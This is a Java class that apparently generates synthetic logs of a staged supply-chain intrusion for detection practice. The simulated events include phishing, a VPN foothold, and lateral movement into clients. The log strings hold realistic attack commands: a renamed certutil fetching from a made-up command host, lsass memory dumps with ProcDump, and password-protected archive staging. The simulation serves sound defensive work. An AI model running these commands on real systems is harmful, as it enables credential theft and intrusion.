package io.carom.scenario;

import io.carom.scenario.Logs.Ended;
import io.carom.scenario.World.Host;
import io.carom.scenario.World.Link;
import io.carom.scenario.World.Org;
import io.carom.scenario.World.User;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Random;

/// The intrusion: planned whole from the seed, then played as time goes by.
///
/// Its stages follow what is publicly known of two cases. Of the outsourcer broken into by April 2019: an
/// "encrypted
/// message" lure at look-alike hosts, stolen credentials used on the portal, on webmail from commercial
/// VPN nodes, then on
/// the corporate VPN; remote-support tools, PsExec, ProcDump; searches for gift cards in mailboxes. Of
/// Operation Cloud
/// Hopper (PwC and BAE Systems, April 2017): the provider's credentials used over its links into clients,
/// tcping,
/// renamed certutil, archives staged in the Recycle Bin, exfiltration back through the provider,
/// dynamic-DNS command
/// hosts. Which of it happens, where, when and how fast is the seed's choice.
final class Intrusion {
    private record Step(long at, Act act) {}

    private interface Act {
        void on(Map<Org, Logs> logs, long at);
    }

    private static final long MINUTE = 60_000L;
    private static final long HOUR = 60 * MINUTE;
    private static final long DAY = 24 * HOUR;

    private final World world;
    private final Random random;
    private final Truth truth;
    private final List<Step> steps = new ArrayList<>();
    private int next;

    // What is the intruder's own.
    private final String lureDomain;
    private final String commandHost;
    private final String commandAddress;
    private final String dropAddress;
    private final List<String> nodes;
    private final List<String> archives = new ArrayList<>();

    Intrusion(World world, ScenarioOptions options, Truth truth) {
        this.world = world;
        this.truth = truth;
        this.random = new Random(options.seed() * 7_368_787 + 17);
        String[] dynamic = {
            "dyn-" + world.word(random) + ".net",
            world.word(random) + "-ddns.org",
            world.word(random) + ".hopto.example"
        };
        lureDomain = new String[] {"internal-", "secure-", "encrypted-", "mail-"}[random.nextInt(4)]
                + world.word(random)
                + new String[] {".app", ".email", ".online"}[random.nextInt(3)];
        commandHost = world.word(random) + "." + dynamic[random.nextInt(3)];
        commandAddress = World.outside(random);
        dropAddress = World.outside(random);
        nodes = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            nodes.add(world.vpnNodes.get(world.vpnNodes.size() / 2 + random.nextInt(world.vpnNodes.size() / 2)));
        }
        plan(options.start().toEpochMilli(), options.days() * DAY);
        steps.sort(Comparator.comparingLong(Step::at));
        truth.indicator("domain", lureDomain, "look-alike mail host of the lure");
        truth.indicator("domain", commandHost, "command host");
        truth.indicator("ip", commandAddress, "command host's address");
        truth.indicator("ip", dropAddress, "where stolen archives went");
        for (String node : nodes.stream().distinct().toList()) {
            truth.indicator("ip", node, "VPN node the stolen accounts were used from");
        }
        // What a partner hands over always holds more than was used here.
        for (int i = 0; i < 6; i++) {
            truth.indicator("domain", world.word(random) + "." + dynamic[i % 3], "reported by a partner");
            truth.indicator("ip", World.outside(random), "reported by a partner");
        }
    }

    /// Plays what falls into these times.
    void play(long from, long to, Map<Org, Logs> logs) {
        while (next < steps.size() && steps.get(next).at < to) {
            Step step = steps.get(next++);
            step.act.on(logs, Math.max(step.at, from));
        }
    }

    private void step(long at, Act act) {
        steps.add(new Step(at, act));
    }

    private static Logs at(Map<Org, Logs> logs, Org org) {
        return Objects.requireNonNull(logs.get(org));
    }

    private void plan(long start, long span) {
        Org supplier = world.supplier;
        // The lure goes out early on a working morning; the clients are reached in the second half.
        long lure = start + span / 10 + random.nextInt((int) Math.min(span / 10, DAY)) / HOUR * HOUR + 20 * MINUTE;
        List<User> people = new ArrayList<>(supplier.users);
        Collections.shuffle(people, random);
        int clicked = 2 + random.nextInt(3);
        String lureHost = "securemail." + supplier.domain + "." + lureDomain;
        for (int i = 0; i < Math.min(50, people.size()); i++) {
            User user = people.get(i);
            step(
                    lure + i * 3000L,
                    (logs, t) -> at(logs, supplier)
                            .office(
                                    t,
                                    user.mail(),
                                    nodes.get(0),
                                    "MessageReceived",
                                    "Exchange",
                                    "Encrypted message from HR <hr@" + lureHost + ">",
                                    "lure: mail to " + user.mail()));
        }
        long last = lure;
        for (int i = 0; i < clicked; i++) {
            User user = people.get(i);
            long t0 = lure + (5L + random.nextInt(90)) * MINUTE;
            last = Math.max(last, t0);
            step(
                    t0,
                    (logs, t) -> at(logs, supplier)
                            .browse(
                                    t,
                                    user.workstation(),
                                    user.account(),
                                    lureHost,
                                    dropAddress,
                                    "/login",
                                    5200,
                                    "lure: the page was opened"));
        }
        truth.entry("phishing of " + supplier.name + "'s staff at " + lureHost, lure);
        User stolen = people.get(0);
        String admin = supplier.admins.get(random.nextInt(supplier.admins.size()));
        truth.account(stolen.account());
        truth.account(admin);

        long portal = last + (2 + random.nextInt(20)) * HOUR;
        for (int i = 0; i < 3; i++) {
            int n = i;
            step(
                    portal + i * (4 * MINUTE),
                    (logs, t) -> at(logs, supplier)
                            .web(
                                    t,
                                    nodes.get(0),
                                    "POST",
                                    "/servicedesk/login",
                                    "-",
                                    stolen.account(),
                                    n == 0 ? 401 : 200,
                                    "stolen credentials on the service desk"));
        }
        long webmail = portal + (1 + random.nextInt(6)) * HOUR;
        step(webmail, (logs, t) -> {
            at(logs, supplier)
                    .signIn(
                            t,
                            stolen.mail(),
                            nodes.get(0),
                            "Office 365 Exchange Online",
                            true,
                            "webmail from a VPN node");
            at(logs, supplier)
                    .office(
                            t + 2 * MINUTE,
                            stolen.mail(),
                            nodes.get(0),
                            "SearchQueryInitiatedExchange",
                            "Exchange",
                            "gift card",
                            "mailbox search for gift cards");
            at(logs, supplier)
                    .office(
                            t + 5 * MINUTE,
                            stolen.mail(),
                            nodes.get(0),
                            "SearchQueryInitiatedExchange",
                            "Exchange",
                            "vpn password",
                            "mailbox search for passwords");
        });
        long vpn = webmail + (3 + random.nextInt(18)) * HOUR;
        String tunnel = supplier.network + ".190." + (2 + random.nextInt(250));
        String node = nodes.get(1);
        long session = (2 + random.nextInt(4)) * HOUR;
        step(
                vpn,
                (logs, t) -> at(logs, supplier)
                        .vpn(t, session, stolen.account(), node, tunnel, "VPN session with stolen credentials"));
        truth.hop(new Truth.Hop(vpn, node, "outside", tunnel, supplier.name, stolen.account(), "corporate VPN"));
        long foothold = vpn + 10 * MINUTE;
        Host jump = supplier.jump();
        step(foothold, (logs, t) -> {
            Logs log = at(logs, supplier);
            log.connection(
                    t,
                    tunnel,
                    jump.ip(),
                    3389,
                    "rdp",
                    40 * MINUTE,
                    800_000,
                    12_000_000,
                    Ended.SF,
                    false,
                    "RDP to the jump host");
            log.logon(t + 5000, jump, stolen.account(), supplier.name, tunnel, 10, true, "RDP to the jump host");
        });
        truth.hop(new Truth.Hop(foothold, tunnel, supplier.name, jump.name(), supplier.name, stolen.account(), "RDP"));
        String folder = new String[] {"C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\"}[random.nextInt(3)];
        String tool = world.word(random) + ".exe";
        boolean screenConnect = random.nextBoolean();
        step(foothold + 12 * MINUTE, (logs, t) -> {
            Logs log = at(logs, supplier);
            log.fileWritten(t, jump, "C:\\Windows\\explorer.exe", folder + tool, "renamed certutil was put down");
            log.process(
                    t + 30_000,
                    jump,
                    supplier.name + "\\" + stolen.account(),
                    folder + tool,
                    folder + tool + " -urlcache -split -f http://" + commandHost + "/a.txt " + folder + "a.dat",
                    "C:\\Windows\\System32\\cmd.exe",
                    "download by a renamed certutil");
            log.lookup(t + 30_500, jump, commandHost, commandAddress, "command host looked up");
            log.connection(
                    t + 31_000,
                    jump.ip(),
                    commandAddress,
                    443,
                    "ssl",
                    4000,
                    1500,
                    900_000,
                    Ended.SF,
                    true,
                    "download from the command host");
            if (screenConnect) {
                log.service(
                        t + 5 * MINUTE,
                        jump,
                        supplier.name + "\\" + stolen.account(),
                        "ScreenConnect Client (" + Integer.toHexString(tool.hashCode()) + ")",
                        "C:\\Program Files (x86)\\ScreenConnect Client\\ScreenConnect.ClientService.exe",
                        "remote-support tool of the intruder's own");
            }
            log.process(
                    t + 9 * MINUTE,
                    jump,
                    supplier.name + "\\" + stolen.account(),
                    folder + "procdump64.exe",
                    folder + "procdump64.exe -accepteula -ma lsass.exe " + folder + "l.dmp",
                    "C:\\Windows\\System32\\cmd.exe",
                    "memory of lsass dumped");
        });
        truth.account("lsass: " + admin);
        beacon(foothold + 20 * MINUTE, start + span - HOUR, jump, supplier);

        // Some clients are hit, one after another; at least one is not when there are two or more.
        List<Org> order = new ArrayList<>(world.clients);
        Collections.shuffle(order, random);
        int hit = Math.max(1, Math.min(order.size() - (order.size() > 1 ? 1 : 0), 1 + random.nextInt(order.size())));
        long first = Math.max(foothold + 6 * HOUR, start + span * 4 / 10);
        for (int i = 0; i < order.size(); i++) {
            if (i < hit) {
                long begin =
                        first + (long) ((start + span - 14 * HOUR - first) * (i + random.nextDouble() * 0.6) / hit);
                truth.hit(order.get(i).name);
                client(order.get(i), begin, start + span, jump, admin, folder);
            } else {
                truth.spared(order.get(i).name);
            }
        }
    }

    /// The command channel: every so often, never quite.
    private void beacon(long from, long to, Host host, Org org) {
        long period = (10 + random.nextInt(50)) * MINUTE;
        double jitter = 0.05 + random.nextDouble() * 0.25;
        for (long t = from; t < to; t += (long) (period * (1 - jitter + 2 * jitter * random.nextDouble()))) {
            boolean asked = random.nextInt(4) == 0;
            long out = 300 + random.nextInt(120);
            step(t, (logs, at) -> {
                if (asked) {
                    at(logs, org).lookup(at, host, commandHost, commandAddress, "command channel");
                }
                at(logs, org)
                        .connection(
                                at + 40,
                                host.ip(),
                                commandAddress,
                                443,
                                "ssl",
                                700,
                                out,
                                500,
                                Ended.SF,
                                true,
                                "command channel");
            });
        }
    }

    private void client(Org client, long begin, long end, Host jump, String admin, String folder) {
        Org supplier = world.supplier;
        Link link = world.linkTo(client);
        String from = link.pool().get(random.nextInt(link.pool().size()));
        String account = link.account();
        truth.account(account);

        step(
                begin,
                (logs, t) -> at(logs, supplier)
                        .process(
                                t,
                                jump,
                                supplier.name + "\\" + admin,
                                "C:\\Windows\\System32\\cmd.exe",
                                "cmd.exe /c " + folder + "tcping.exe "
                                        + client.servers.get(0).ip() + " 3389",
                                "C:\\Windows\\explorer.exe",
                                "recon: tcping towards " + client.name));
        // Reconnaissance over the link: servers and some desks, few ports, slow or fast.
        int[] ports = random.nextBoolean() ? new int[] {445, 3389} : new int[] {135, 445, 3389, 5985};
        long pace = (2 + random.nextInt(60)) * 1000L;
        List<String> targets = new ArrayList<>();
        for (Host server : client.servers) {
            targets.add(server.ip());
        }
        for (int i = 0; i < 20 + random.nextInt(30); i++) {
            targets.add(client.network + ".1." + (30 + random.nextInt(200)));
        }
        Collections.shuffle(targets, random);
        long at = begin + 5 * MINUTE;
        for (String target : targets) {
            for (int port : ports) {
                boolean there = Integer.parseInt(target.substring(target.lastIndexOf('.') + 1)) < 22;
                Ended ended = there && random.nextInt(3) > 0 ? Ended.RSTO : random.nextBoolean() ? Ended.S0 : Ended.REJ;
                step(at, (logs, t) -> {
                    at(logs, client)
                            .connection(
                                    t,
                                    from,
                                    target,
                                    port,
                                    "",
                                    30,
                                    0,
                                    0,
                                    ended,
                                    true,
                                    "recon: scan over " + link.name());
                    at(logs, supplier)
                            .connection(
                                    t,
                                    from,
                                    target,
                                    port,
                                    "",
                                    30,
                                    0,
                                    0,
                                    ended,
                                    false,
                                    "recon: scan over " + link.name());
                });
                at += (long) (pace * (0.5 + random.nextDouble()));
            }
        }
        // Lateral movement: one server, then others from there.
        long moved = at + (30 + random.nextInt(240)) * MINUTE;
        Host target = client.servers.get(7 + random.nextInt(3));
        boolean psexec = random.nextBoolean();
        step(moved, (logs, t) -> {
            Logs log = at(logs, client);
            log.connection(
                    t,
                    from,
                    target.ip(),
                    3389,
                    "rdp",
                    50 * MINUTE,
                    700_000,
                    14_000_000,
                    Ended.SF,
                    true,
                    "RDP over " + link.name());
            at(logs, supplier)
                    .connection(
                            t,
                            from,
                            target.ip(),
                            3389,
                            "rdp",
                            50 * MINUTE,
                            700_000,
                            14_000_000,
                            Ended.SF,
                            false,
                            "RDP over " + link.name());
            log.ticket(t + 2000, account, target.name() + "$", from, "the supplier's account, used by the intruder");
            log.logon(
                    t + 4000,
                    target,
                    account,
                    client.name,
                    from,
                    10,
                    true,
                    "the supplier's account, used by the intruder");
            log.process(
                    t + 8 * MINUTE,
                    target,
                    client.name + "\\" + account,
                    folder + "procdump64.exe",
                    folder + "procdump64.exe -accepteula -ma lsass.exe " + folder + "x.dmp",
                    "C:\\Windows\\System32\\cmd.exe",
                    "memory of lsass dumped");
        });
        truth.hop(new Truth.Hop(begin, jump.name(), supplier.name, from, supplier.name, admin, link.name()));
        truth.hop(new Truth.Hop(
                moved, from, supplier.name, target.name(), client.name, account, "RDP over " + link.name()));
        beacon(moved + 15 * MINUTE, Math.min(end - HOUR, moved + 3 * DAY), target, client);
        String clientAdmin = client.admins.get(random.nextInt(client.admins.size()));
        truth.account(clientAdmin);
        Host previous = target;
        long time = moved;
        int hops = 1 + random.nextInt(3);
        for (int i = 0; i < hops; i++) {
            time += (40 + random.nextInt(200)) * MINUTE;
            Host to = client.servers.get(i == hops - 1 ? 1 : i == 0 ? 0 : 8);
            if (to.equals(previous)) {
                continue;
            }
            Host source = previous;
            step(time, (logs, t) -> {
                Logs log = at(logs, client);
                log.connection(
                        t,
                        source.ip(),
                        to.ip(),
                        psexec ? 445 : 3389,
                        psexec ? "smb" : "rdp",
                        20 * MINUTE,
                        90_000,
                        400_000,
                        Ended.SF,
                        false,
                        "lateral movement");
                log.logon(
                        t + 2000, to, clientAdmin, client.name, source.ip(), psexec ? 3 : 10, true, "lateral movement");
                if (psexec) {
                    log.service(
                            t + 3000,
                            to,
                            client.name + "\\" + clientAdmin,
                            "PSEXESVC",
                            "%SystemRoot%\\PSEXESVC.exe",
                            "lateral movement by PsExec");
                }
            });
            truth.hop(new Truth.Hop(
                    time, source.name(), client.name, to.name(), client.name, clientAdmin, psexec ? "PsExec" : "RDP"));
            previous = to;
        }
        // Staging and exfiltration back over the link, then out of the supplier.
        long staged = time + (20 + random.nextInt(120)) * MINUTE;
        Host source = previous;
        String archive = "C:\\$Recycle.Bin\\" + client.name.toUpperCase(Locale.ROOT) + "\\" + world.word(random);
        archives.add(archive);
        int parts = 3 + random.nextInt(6);
        step(staged, (logs, t) -> {
            Logs log = at(logs, client);
            log.process(
                    t,
                    source,
                    client.name + "\\" + clientAdmin,
                    folder + "r.exe",
                    folder + "r.exe a -v200m -hp" + Integer.toHexString(archive.hashCode()) + " " + archive
                            + ".rar D:\\projects",
                    "C:\\Windows\\System32\\cmd.exe",
                    "archives staged");
            for (int i = 1; i <= parts; i++) {
                log.fileWritten(
                        t + i * MINUTE, source, folder + "r.exe", archive + ".part" + i + ".rar", "archives staged");
            }
            log.connection(
                    t + 30 * MINUTE,
                    source.ip(),
                    from,
                    445,
                    "smb",
                    25 * MINUTE,
                    parts * 200_000_000L,
                    900_000,
                    Ended.SF,
                    true,
                    "archives taken to the supplier over " + link.name());
            at(logs, supplier)
                    .connection(
                            t + 30 * MINUTE,
                            source.ip(),
                            from,
                            445,
                            "smb",
                            25 * MINUTE,
                            parts * 200_000_000L,
                            900_000,
                            Ended.SF,
                            false,
                            "archives taken to the supplier over " + link.name());
            at(logs, supplier)
                    .connection(
                            t + 70 * MINUTE,
                            jump.ip(),
                            dropAddress,
                            443,
                            "ssl",
                            40 * MINUTE,
                            parts * 200_000_000L,
                            700_000,
                            Ended.SF,
                            true,
                            "archives of " + client.name + " sent out");
        });
    }
}
